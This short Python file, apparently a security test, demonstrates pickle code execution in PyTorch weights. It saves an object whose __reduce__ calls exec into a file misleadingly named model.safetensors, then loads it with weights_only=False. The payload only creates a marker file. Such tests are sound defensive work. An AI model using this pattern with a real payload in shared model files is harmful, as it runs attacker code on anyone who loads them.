"""Weights that are a program: PyTorch's old format is a pickle, which runs code when read."""

import attack
import torch


class Program:
    def __reduce__(self):
        return exec, (f"open({attack.MARK!r}, 'w').close()",)


def make(folder):
    torch.save({"embedding.weight": Program()}, folder / "model.safetensors")


def trusting(folder):
    with open(folder / "model.safetensors", "rb") as file:
        torch.load(file, weights_only=False)
